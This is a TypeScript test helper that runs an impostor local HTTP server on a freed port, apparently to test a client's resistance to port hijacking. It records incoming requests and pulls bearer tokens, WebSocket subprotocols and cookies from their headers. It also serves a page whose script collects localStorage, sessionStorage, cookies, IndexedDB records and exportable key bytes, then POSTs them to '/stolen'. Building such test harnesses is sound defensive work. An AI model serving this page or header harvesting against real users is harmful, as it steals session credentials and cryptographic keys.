/** A program that takes the port of a server which has ended, keeps what it is sent, and tries to get the key of a browser. */
import { spawn } from "node:child_process";
import { once } from "node:events";
import { createServer } from "node:http";

/** A request as it came. */
export interface Got {
  readonly method: string;
  readonly url: string;
  readonly headers: readonly string[];
  readonly body: string;
}

export interface Impostor extends AsyncDisposable {
  readonly got: readonly Got[];
}

/** Starts the impostor as a process on the port of an address. */
export async function impostorAt(address: string): Promise<Impostor> {
  const child = spawn(process.execPath, [import.meta.filename, new URL(address).port], {
    stdio: ["ignore", "pipe", "inherit"],
  });
  const got: Got[] = [];
  let rest = "";
  child.stdout.setEncoding("utf8").on("data", (text: string) => {
    const lines = (rest + text).split("\n");
    rest = lines.pop() ?? "";
    for (const line of lines) if (line !== "listens") got.push(JSON.parse(line));
  });
  await once(child.stdout, "data");
  return {
    got,
    async [Symbol.asyncDispose]() {
      const ended = once(child, "close");
      child.kill("SIGKILL");
      await ended;
    },
  };
}

/** Returns each text with which a client could have shown who it is: bearers, subprotocols, cookies. */
export function credentialsIn(got: readonly Got[]): readonly string[] {
  return got.flatMap(({ headers }) =>
    headers.flatMap((value, at) => {
      const name = headers[at - 1]?.toLowerCase() ?? "";
      if (at % 2 === 0 || !["authorization", "sec-websocket-protocol", "cookie"].includes(name)) return [];
      return value.split(/[\s,;=]+/).map((one) => one.replace(/^key\./, ""));
    }),
  );
}

/** A page that sends everything that it finds in the browser's storage, with the bytes of a key if they can be read. */
const page = `<!doctype html><title>Local Harness</title><script>
(async () => {
  const found = [JSON.stringify({ ...localStorage, ...sessionStorage }), document.cookie];
  for (const { name } of await indexedDB.databases()) {
    const database = await new Promise((resolve) => {
      const opening = indexedDB.open(name);
      opening.onsuccess = () => resolve(opening.result);
    });
    for (const store of database.objectStoreNames) {
      const all = await new Promise((resolve) => {
        const reading = database.transaction(store).objectStore(store).getAll();
        reading.onsuccess = () => resolve(reading.result);
      });
      for (const one of all) {
        const bytes = await crypto.subtle.exportKey("raw", one.secret).catch(String);
        found.push("id " + one.id, typeof bytes === "string" ? bytes : new TextDecoder().decode(bytes));
      }
    }
  }
  // The test may end this program before the answer has come.
  await fetch("/stolen", { method: "POST", body: found.join("\\n") }).catch(() => undefined);
})();
</script>`;

if (import.meta.main) {
  const tell = (got: Got) => process.stdout.write(`${JSON.stringify(got)}\n`);
  const server = createServer((request, response) => {
    const { method = "", url = "", rawHeaders } = request;
    let body = "";
    request.setEncoding("utf8").on("data", (text: string) => {
      body += text;
    });
    request.on("end", () => {
      tell({ method, url, headers: rawHeaders, body });
      const isPage = method === "GET" && !url.startsWith("/api/");
      response.writeHead(200, { "Content-Type": isPage ? "text/html" : "application/json" });
      const proof = { server: "a".repeat(22), proof: "b".repeat(43) };
      response.end(isPage ? page : JSON.stringify({ ...proof, ok: true, open: [], saved: [] }));
    });
  });
  server.on("upgrade", ({ method = "", url = "", rawHeaders }, socket) => {
    tell({ method, url, headers: rawHeaders, body: "" });
    socket.destroy();
  });
  server.listen(Number(process.argv[2]), "127.0.0.1", () => process.stdout.write("listens\n"));
}
